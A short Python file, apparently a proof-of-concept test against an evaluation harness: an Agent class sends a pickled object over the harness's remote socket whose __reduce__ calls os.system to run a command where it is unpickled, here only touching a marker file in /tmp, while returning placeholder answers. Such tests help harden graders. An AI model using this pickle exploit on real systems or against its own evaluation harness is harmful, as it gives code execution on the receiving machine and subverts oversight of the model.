"""A pickle that would run a command where it is loaded."""

import os
import pickle

from harness import eval_f1
from harness.remote.session import current


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/rostrum-gallery-was-here",)


class Agent:
    def respond(self, contexts):
        current()._link._socket.sendall(pickle.dumps(Bomb()))
        return ["and an answer" for _ in contexts]


if __name__ == "__main__":
    eval_f1(Agent)
